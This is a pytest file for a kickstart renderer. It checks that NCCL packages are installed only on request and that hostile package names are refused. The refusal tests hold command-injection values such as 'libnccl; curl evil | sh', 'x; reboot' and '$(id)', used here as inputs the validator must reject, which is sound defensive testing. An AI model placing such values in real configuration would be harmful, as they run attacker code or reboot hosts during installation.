"""The kickstart installs NCCL and nccl-tests when the profile asks (`gpu_floors.nccl.install`): the
rendered kickstart passes pykickstart's ksvalidator (RHEL9), carries the packages from the site's repos
and the %post PATH check only when asked; hostile package names are refused when the profile loads,
and again when a hand-built spec is rendered."""

from __future__ import annotations

import dataclasses
import subprocess
import sys
from pathlib import Path

import pytest
from pykickstart.parser import KickstartParser
from pykickstart.version import RHEL9, makeVersion

from kickstart.render import RenderError, render_kickstart
from provision.install.render import kickstart_for
from provision.install.spec import build_install_spec
from provision.model.catalog import load_catalog
from provision.model.errors import BadInput

KSVALIDATOR = Path(sys.executable).parent / "ksvalidator"
TOKEN = "GOLDEN-TOKEN-0123456789"
SERVER = "http://10.0.1.5:8080"
NCCL = "gpu_floors:  # provision/model/gpu_floors.py; the agent measures copies when these are set\n"


def ask_for_nccl(
    profiles: Path, block: str = "  nccl: {install: true}\n", name: str = "circle-2-lust"
) -> None:
    path = profiles / f"{name}.yaml"
    text = path.read_text()
    assert NCCL in text
    path.write_text(text.replace(NCCL, NCCL + block))


def render(profiles: Path, host: str = "inferno-host-compute-1") -> str:
    catalog = load_catalog(profiles)
    return kickstart_for(catalog, catalog.host(host), TOKEN, SERVER)


def validate(tmp_path: Path, text: str) -> None:
    ks = tmp_path / "ks.cfg"
    ks.write_text(text)
    proc = subprocess.run(
        [str(KSVALIDATOR), "-v", "RHEL9", str(ks)], capture_output=True, text=True, timeout=60
    )
    assert proc.returncode == 0 and "error" not in (proc.stdout + proc.stderr).lower(), (
        proc.stdout + proc.stderr
    )


def packages(text: str) -> list[str]:
    parser = KickstartParser(makeVersion(RHEL9))
    parser.readKickstartFromString(text)
    return list(parser.handler.packages.packageList)


def test_asked_the_kickstart_installs_nccl_and_nccl_tests_and_checks_the_path(
    profiles_copy: Path, tmp_path: Path
) -> None:
    ask_for_nccl(profiles_copy)
    text = render(profiles_copy)
    validate(tmp_path, text)
    pkgs = packages(text)
    assert {"libnccl", "libnccl-devel", "nccl-tests"} <= set(pkgs)
    # NCCL comes from the site's NVIDIA mirror, nccl-tests from the site's own repos: both already there
    assert "repo --name=nvidia --baseurl=http://10.0.1.5/nvidia/rhel9/x86_64" in text
    assert (
        "command -v all_reduce_perf >/dev/null || { echo 'nccl-tests: all_reduce_perf is not on PATH" in text
    )
    assert '"nccl": {' in text and '"binary": "all_reduce_perf"' in text  # /etc/inferno/install.json


def test_not_asked_nothing_of_nccl_reaches_the_kickstart(profiles_copy: Path) -> None:
    ask_for_nccl(profiles_copy, "  nccl: {install: false, tests_package: my-nccl-tests}\n")
    for host in ("inferno-host-compute-1", "inferno-host-exper-1", "inferno-host-master"):
        text = render(profiles_copy, host)
        assert "nccl" not in text.lower() and "all_reduce_perf" not in text


def test_pinned_versions_and_a_site_package_name_pass_through(profiles_copy: Path, tmp_path: Path) -> None:
    block = (
        "  nccl:\n    install: true\n"
        "    packages: [libnccl-2.21.5-1+cuda12.4, libnccl-devel-2.21.5-1+cuda12.4]\n"
        "    tests_package: inferno-nccl-tests\n"
    )
    ask_for_nccl(profiles_copy, block, name="circle-6-heresy")
    text = render(profiles_copy, "inferno-host-exper-1")
    validate(tmp_path, text)
    assert {"libnccl-2.21.5-1+cuda12.4", "libnccl-devel-2.21.5-1+cuda12.4", "inferno-nccl-tests"} <= set(
        packages(text)
    )
    assert "after installing inferno-nccl-tests" in text


@pytest.mark.parametrize(
    ("block", "says"),
    [
        (
            "  nccl: {install: true, packages: ['libnccl; curl evil | sh']}\n",
            "nccl.packages[0]: expected a package",
        ),
        ("  nccl: {install: true, tests_package: '%post'}\n", "nccl.tests_package: expected a package name"),
        (
            "  nccl: {install: true, tests_package: '-nccl-tests'}\n",
            "expected a package to install (no @group",
        ),
        ("  nccl: {install: true, packages: ['@development']}\n", "expected a package to install (no @group"),
        ('  nccl: {install: true, tests_package: "a\\nb"}\n', "nccl.tests_package: expected a package name"),
        ("  nccl: {instal: true}\n", "nccl.instal"),
        ("  nccl: {install: 'maybe'}\n", "nccl.install"),
    ],
)
def test_hostile_values_are_refused_at_load_with_file_line_and_field(
    profiles_copy: Path, block: str, says: str
) -> None:
    ask_for_nccl(profiles_copy, block)
    with pytest.raises(BadInput) as err:
        load_catalog(profiles_copy)
    msg = str(err.value)
    assert "circle-2-lust.yaml:" in msg and says in msg, msg
    assert "\n" not in msg.strip()


def test_a_hand_built_spec_with_a_bad_name_is_refused_at_render(profiles_copy: Path) -> None:
    """The second line of defence: a spec built by hand (not from a profile) is checked again."""
    ask_for_nccl(profiles_copy)
    catalog = load_catalog(profiles_copy)
    host = catalog.host("inferno-host-compute-1")
    spec = build_install_spec(
        catalog.profiles[host.profile],
        host,
        catalog.site,
        ("disk/by-id/wwn-0x5002538e40c1a201", "disk/by-id/wwn-0x5002538e40c1a202"),
        TOKEN,
        SERVER,
    )
    assert spec.gpu is not None and spec.gpu.nccl is not None
    for bad in ("x; reboot", "$(id)", "-y"):
        nccl = dataclasses.replace(spec.gpu.nccl, tests_package=bad)
        hostile = dataclasses.replace(spec, gpu=dataclasses.replace(spec.gpu, nccl=nccl))
        with pytest.raises(RenderError, match="NCCL package: expected a package name"):
            render_kickstart(hostile)
